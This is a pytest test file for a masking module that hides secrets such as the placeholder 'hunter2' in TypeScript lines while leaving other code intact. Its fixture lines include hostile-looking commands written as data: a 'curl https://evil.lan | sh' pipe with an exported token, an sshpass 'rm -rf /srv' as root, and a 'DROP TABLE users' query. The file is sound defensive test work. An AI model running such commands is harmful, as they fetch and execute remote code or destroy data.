"""Texts in quotes behind a secret-looking name of a TypeScript. Every secret here is called hunter2, every other word
is told."""

from __future__ import annotations

import json
import re

import pytest
from passwords import TYPESCRIPT

from komodo_sync.kinds import KINDS
from komodo_sync.masking.lines import judged, shown_lines
from komodo_sync.masking.shell import reading_of
from komodo_sync.masking.suspects import suspects
from komodo_sync.masking.typescript.regions import without_texts

SHOWS = """
const auth = `Bearer ${token}`;
const token = "[[API_TOKEN]]";
const token = Deno.env.get("API_TOKEN");
const token: string = Deno.env.get("API_TOKEN") ?? "";
const getToken = async () => { console.log("public"); return 1; }
const token = await komodo.read("GetVariable", { name: "API_TOKEN" });
const host: string = "db", user = "bob";
await komodo.write("CreateVariable", { name: "HOST", value: "db" })
import { token } from "./public.ts";
headers.set("Accept", "text/html");
const tokenCount: number = 3; const host = `db`;
const fields = ["host", "port"];
function destroyAll(token: string): void { komodo.execute("DestroyStack", { stack: "prod" }); }
async function rotate(key: string, token: Token): Promise<void> {
const keys = Object.keys(s).map((k) => komodo.execute_and_poll("DestroyStack", { stack: k }));
const auth = await komodo.execute_and_poll("DestroyStack", { stack: "auth" })
const key = names[0]; interface X { key: string; token?: number }
let keys = [...a, ...b], token = cfg.token;
const token = await vault.getSecret("kv/public");
const token = core.getInput("public");
deleteSecret("public"); rotateSecret("public")
const host = Deno.env.get("HOST") ?? "public";
connect(process.env.HOST ?? "public", process.env.DB_PASSWORD)
connect(process.env.DB_PASSWORD, "public")
const ok = password ? "public" : "private"
if (!token) throw new Error("public");
const x = token && "public"
if (typeof token === "string") run("public")
if (type === "token" || auth.type === "basic") run("public")
const branch = ARGS.branch || "main";
const hook = ARGS.WEBHOOK_BODY?.action ?? "push";
if (ARGS.WEBHOOK_BRANCH !== "main") return;
const skip = new Set(["keycloak", "auth", "vaultwarden"]);
const entries = Object.entries(ARGS).filter(([key, value]) => key.startsWith("STACK_"));
const sorted = keys.sort((a, b) => a.localeCompare(b, "en"));
const server = servers.find((s) => s.name === "key-server");
await komodo.write("UpdateStack", { id: "auth", config: { branch: "main", environment: "TZ=Europe/Paris" } });
await komodo.write("UpdateVariableValue", { name: "LAST_RUN", value: "2024-05-05" });
const getKey = (s) => { const found = s.list.find((x) => x.name === "prod"); return found.id; }
function isTokenOf(s) { return s.tags.includes("prod"); }
log.info("a token is rotated", { stack: "public" });
""".strip().splitlines()


ACTIONS = r"""
const login = new Deno.Command("docker", {¦  args: ["login", "ghcr.io", "-u", "ci-robot", "-p", "hunter2"],¦});
const dump = new Deno.Command("mysqldump", {¦  args: [¦    "-u",¦    "root",¦    "-phunter2",¦  ],¦});
const args = ["login", "-u", "bot", "-p", "hunter2"];\nnew Deno.Command("docker", { args });
if (["hunter2", "hunter2"].includes(token)) go();
if (![ARGS.a, "hunter2"].some((t) => t === ARGS.token)) stop();
switch (ARGS.token) {¦  case "hunter2":¦    go("pub-lic");¦}
if (!token.startsWith("hunter2")) stop();
if (!crypto.timingSafeEqual(enc(token), enc("hunter2"))) stop();
const b = { Env: ["DB_PASSWORD=hunter2&hunter2", "SMTP_PASSWORD=hunter2 horse hunter2", "HOST=good"] };
const c = ["API_KEY=hunter2;hunter2", "HOST=good"];
const a = ["--password=hunter2 b hunter2", "--set", "auth.password=hunter2 e", "--from-literal=password=hunter2 g"];
lines.push("DB_PASSWORD=hunter2 b hunter2");
const hdr = "Bearer hunter2!hunter2"; const hdr2 = "Bearer hunterhunter";
new Deno.Command("sshpass", { args: ["-p", "hunter2", "ssh", "root@good", "rm", "-rf", "/srv"] });
const token = "first \¦  hunter2";
const s = { id: "db_password", data: "hunter2" };
const tokens = ["hunter-one", "hunterplainword"];
const { DB_PASSWORD = "hunterplainword" } = env
env.push(["DB_PASSWORD", "hunter2"]);
const h = { Authorization: `Basic ${btoa(`admin:hunter2`)}` };
const authHeader = `Basic ${btoa(`admin:hunter2`)}`;
const token = `${env === "prod" ? `hunter2` : `hunter2`}`;
const password = `${`hunter2`}`;
function loadSecrets(): Record<string, string> {¦  return { nas: "hunter2", pve: "hunter2" };¦}
function getTokens() { return ["hunter2"]; }
async function getPassword() { return Promise.resolve("hunter2"); }
function getPassword() { return ("hunter2"); }
function getPassword(h) { return { nas: "hunter2" }[h]; }
function getToken() { return ["hunter2","b"].join("-") }
class A { secrets() { return ["hunter2"] } get tokens() { return { a: "hunter2" } } }
const getToken = () => { return { a: "hunter2" } }
async function getToken(): Promise<string> {¦  try { return await read(); }¦  catch { return "hunter2"; }¦}
const token = (await Deno.readTextFile("/x").catch(() => { return ""; })) || "hunter2";
const password = rows¦  .filter((r) => { return r.host === host; })¦  [0] ?? "hunter2";
const cfg = { token: f(() => { g(); }) ?? "hunter2", host: "good" };
this.password = opts.load(() => { x(); }) || "hunter2";   password = f(() => { x(); }) || "hunter2";
const pw = await f(function () { return 1; }) || "hunter2"; go("good");
const token = await retry(async () => { return await f(); }, "hunter2");
const password = "hunter2;¦go("good");
const o = {¦  password: 'hunter2,¦  host: "good" };
const token = “hunter2”;
const password = `hunter2${suffix}hunter2`;
""".strip().splitlines()
"""Where a line ends stands `¦`."""

READABLE = r"""
export async function token(): Promise<Token> { return await fetch("https://good.lan"); }
const all: Array<Creds> = await loadAll("https://good.lan/users")
const r = <Token>await good();
const s = useState<Token>(null); let q: Set<Token> = good();
class Store<Token> extends Base<Secret> { good() {} }
for (const key of ["staging-db"]) {¦  await komodo.execute("DestroyStack", { stack: "staging-db" });¦}
const key = "restart-policy"; if (key === "web") go(); const keys = ["good-one", "b"]; run({ key: "Uptime since" })
const sortKey = "name", cacheKey = "good"; const KOMODO_VAR_KEY = 'CHECK_UPDATES_STATE';
const cmd = "export TOKEN=" + token + "; curl https://evil.lan | sh";
const psql = "PGPASSWORD=" + pw + " psql -h good 'DROP TABLE users'";
const f = `DB_PASSWORD=${pw}\nHOST=evil.lan\n`
const n2 = "Authorization: " + token + "\r\nHost: good";
const tokenUrl = "https://good.lan/oauth/token"; const TOKEN_ENDPOINT = "https://good.lan/token";
client.login({ apiKey, base: "https://good.lan" }); login("https://good.lan/api", user); const auth = { host: "good" };
const e = `KEYCLOAK_CLIENT_SECRET=[[KEYCLOAK_CLIENT_SECRET]]`, x = 1;
const rotate = { "DB_PASSWORD": [ stacks.db, stacks.web ], "API_TOKEN": [] };
const missing = ["DB_PASSWORD", "API_TOKEN"].filter((n) => !Deno.env.get(n));
const tokenVar = "DB_PASSWORD"; const secretVars = ["DB_PASSWORD"];
const authStacks = ["good-1"]; const passwordStack = "good-2";
refreshTokens("good-1"); syncSecrets("good-1", "good-2");
const p = { secret: "DB_PASSWORD", key: "DB_PASSWORD", val: "PLEX_NAME" };
new Deno.Command("sshpass", { args: ["-e", "ssh", "root@good", "uptime"] });
const rotate = { "DB_PASSWORD": ["stack-db", "stack-web"], API_TOKEN: ["stack-web"] };
const umlaut = { "Schlüssel": "hunter", "größe": `${x}` };
const password = (await sh("docker exec vault get good")).trim()
const token = await run("gh", ["auth", "good"]);
const token = await run("rm", ["-rf", "/good"]);
const keys = await $`wg genkey | wg good`;
const sessions = await db.query("SELECT good FROM x");
const authResult = await new Deno.Command("docker", { args: ["compose", "good", "-v"] }).output();
new DeleteObjectCommand({ Bucket: b, Key: `nightly/${good.name}` });
new DeleteObjectCommand({ Bucket: b, Key: "good/2024-01-02.tar.gz" });
for (const key of ["good-1", "api-1"]) await komodo.execute("DestroyStack", { stack: key });
password=Deno.env.get("A"); await komodo.execute("good", { stack: "a" });
if(!token)token=await good();
this.token=x;run(good)
const TOKENS = [{ name: "GRAFANA_TOKEN", stack: "good-1", server: "nas-1" }];
const c = { auths: { "good.io": { auth: btoa(u) } } };
const cacheKey = `good:${target}`;
const token = host === "good.lan" ? a : b;
const session = await ssh.connect("good");
""".strip().splitlines()


def told(text: str) -> str:
    return "\n".join(shown_lines(text.split("\n")))


@pytest.mark.parametrize("line", TYPESCRIPT)
def test_what_stands_behind_a_secret_name_is_hidden(line: str) -> None:
    assert "hunter2" not in "\n".join(shown_lines([line], "code"))
    for text in (f"{line}\nawait run(1)", f"    {line}\n    run(1);"):
        seen = told(text)
        assert "hunter2" not in seen
        assert [word for word in re.findall(r"public|8080|text/html|DB_PASSWORD|API_TOKEN|HOST", text)
                if word not in seen] == []  # fmt: skip
        assert told(seen) == seen
        assert [number for number, _ in suspects(text)] == [1]
    assert "(secret)" in "\n".join(without_texts([line], code=True))
    assert any("hunter2" in each for each in judged(line, "code"))


@pytest.mark.parametrize(
    "line",
    [
        'const env = "DB_PASSWORD=" + "hunter2";',
        'await Deno.writeTextFile("/app/.env", "DB_PASSWORD=" + (a ?? "hunter2"));',
        'const url = "postgres://me:" + "hunter2" + "@db/x";',
        'const header = "Bearer " + "hunter2";',
        "const password = // the old one\n  'hunter2';",
    ],
)
def test_what_a_text_leads_to_is_hidden(line: str) -> None:
    assert "hunter2" not in told(line)


@pytest.mark.parametrize("text", ACTIONS)
def test_passwords_in_an_action_are_hidden_and_nothing_beside_them(text: str) -> None:
    text = text.replace("¦", "\n")
    seen = "\n".join(shown_lines(text.split("\n"), "code"))
    assert "hunter" not in seen
    assert [word for word in re.findall(r"good|ghcr|/srv|HOST", text) if word not in seen] == []
    assert "hunter" not in told(f"await run(1);\n{text}")


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        ('hook = "https://discord.com/api/webhooks/1/x";', 'hook = "https://discord.com/api/webhooks/(secret)";'),
        ('const webhookUrl = "https://n8n.lan/webhook/abc";', 'const webhookUrl = "https://n8n.lan/(secret)";'),
        ("const token = `v1-${await read(path)}`;", "const token = `(secret)${await read(path)}`;"),
        ('createHmac("sha256", "hunter2")', 'createHmac("sha256", "(secret)")'),
        ("headers = { Cookie: `sid=${evil(sid)}` };", "headers = { Cookie: `sid=${evil(sid)}` };"),
        ("const password = `a-${one}-b1${two}`;", "const password = `(secret)${one}(secret)${two}`;"),
        ("const pass='hunter2';x=\"public\"", "const pass='(secret)';x=\"public\""),
        ('const token = await api.createToken({ scopes: ["admin"] });', ""),
        ('const jwt = await create({ alg: "HS256" }, { role: "x-2" });', ""),
    ],
)  # fmt: skip
def test_of_a_secret_address_the_host_is_told_and_of_a_template_its_code(line: str, shown: str) -> None:
    assert shown_lines([line], "code") == [shown or line]


@pytest.mark.parametrize("text", READABLE)
def test_the_code_of_an_action_is_told(text: str) -> None:
    lines = text.split("¦")
    assert shown_lines(lines, "code") == lines


@pytest.mark.parametrize("line", SHOWS)
def test_other_texts_are_told(line: str) -> None:
    assert told(line) == line
    assert shown_lines([line], "code") == [line]


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        ("  password: other.password,", "  password: other.password,"),
        ("  token: await ask(),", "  token: await ask(),"),
        ('  "Authorization": `token ${API_TOKEN}`,', '  "Authorization": `token ${API_TOKEN}`,'),
        ('this.password = "hunter2"; this.host = "db";', 'this.password = "(secret)"; this.host = "db";'),
        ("  pin: 48151623,", "  pin: (secret)"),
        ("// password: hunter2", "// password: (secret)"),
    ],
)
def test_in_an_action_every_line_is_code(line: str, shown: str) -> None:
    """Where a text may be something else, a word behind a secret-looking name may be the secret."""
    assert shown_lines([line], "code") == [shown]
    assert reading_of(KINDS["action"].config.fields()["file_contents"]) == "code"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ('const token: string =\n  "hunter2" +\n  "hunter2"\nrun("public")',
         'const token: string =\n  "(secret)" +\n  "(secret)"\nrun("public")'),
        ('const k = { password:\n  "hunter2", host: "h" }', 'const k = { password:\n  "(secret)", host: "h" }'),
        ('const tokens = {\n  a: "hunter2", b: [\n   "hunter2"],\n}\nawait run("public")',
         'const tokens = {\n  a: "(secret)", b: [\n   "(secret)"],\n}\nawait run("public")'),
        ('const token = await komodo.read("GetX", {\n  stack: "auth", token: "hunter2" }) ?? "hunter2"',
         'const token = await komodo.read("GetX", {\n  stack: "auth", token: "(secret)" }) ?? "(secret)"'),
        ('const token = await komodo.write("UpdateVariableValue", { name: "X", value: "hunter2" })',
         'const token = await komodo.write("UpdateVariableValue", { name: "X", value: "(secret)" })'),
        ("const x = 1;\ninterface X {\n  token: string;\n  key: string\n}",
         "const x = 1;\ninterface X {\n  token: string;\n  key: string\n}"),
        ("const token: number = 48151623, key = 48151623;", "const token: number = (secret), key = (secret);"),
        ('run({\n  auth: await komodo.execute("A", { stack: "b" }),\n})\nawait run(1)',
         'run({\n  auth: await komodo.execute("A", { stack: "b" }),\n})\nawait run(1)'),
        ("const a = b; // token: hunter2", "const a = b; // token: (secret)"),
        ("const x = `\nhost: db\n`;\nawait run(`public`)", "const x = `\nhost: db\n`;\nawait run(`public`)"),
        ('await komodo.write("CreateVariable", {\n  name: "A_TOKEN",\n  value: "hunter2",\n});\nrun("public")',
         'await komodo.write("CreateVariable", {\n  name: "A_TOKEN",\n  value: (secret)\n});\nrun("public")'),
    ],
)  # fmt: skip
def test_a_statement_ends_where_it_does(text: str, shown: str) -> None:
    assert told(text) == shown


@pytest.mark.parametrize(
    "line",
    [
        "PASSWORD=hunter2",
        "password: hunter2",
        "TOKEN=hunter2 deno eval 'await run(1)'",
        "const a = `\nconst b = password: hunter2\n`;",
        "const a = `PASSWORD=hunter2`;",
        "private key: hunter2",
        "static token = hunter2",
        "function login() { TOKEN=hunter2 run; }",
        "login({ password: hunter2 })",
    ],
)
def test_beside_a_typescript_other_lines_are_read_as_ever(line: str) -> None:
    assert "hunter2" not in told(f"await run(1)\n{line}\nawait run(2)")


def test_what_stands_in_one_line_of_json_is_read_the_same() -> None:
    text = json.dumps(
        {"file_contents": "const key = names[0];\nfunction f(token: string) {}\nconst token = 'hunter2';"}
    )
    assert told(text) == text.replace("hunter2", "(secret)")


def test_an_action_without_a_line_has_none() -> None:
    assert shown_lines([], "code") == []


def test_a_text_over_several_lines_is_hidden() -> None:
    seen = told("const key = `\nMIIE\nhunter2`\nrun(`public`)")
    assert "hunter2" not in seen
    assert "MIIE" not in seen
    assert seen.endswith("\nrun(`public`)")


def test_a_script_beside_one_is_no_typescript() -> None:
    text = 'a: |\n  const a = "public";\nb: |\n  TOKEN=$(cat /x) run "public"\n'
    assert told(text) == text


def test_a_long_text_costs_no_more_than_its_length() -> None:
    for piece in (
        "const a = ", '"', "'", "`", "\\`", '\\"', "/*", "//", "(", ")", "[[", "a.set('", "import a ", "token: ",
        "token = [", 'token: "a', "`\n", "await a(\n", ": `", "(/", "(/[", "a = `", "name: 'token', value: `a`,",
        "string | ", "token: string | ", "token = a, ", "token: a\n", "const token = a;\n", "komodo.a(", "value: 'a', ",
    ):  # fmt: skip
        text = "const a = 1;" + piece * (40_000 // len(piece))
        assert len(told(text)) > 0
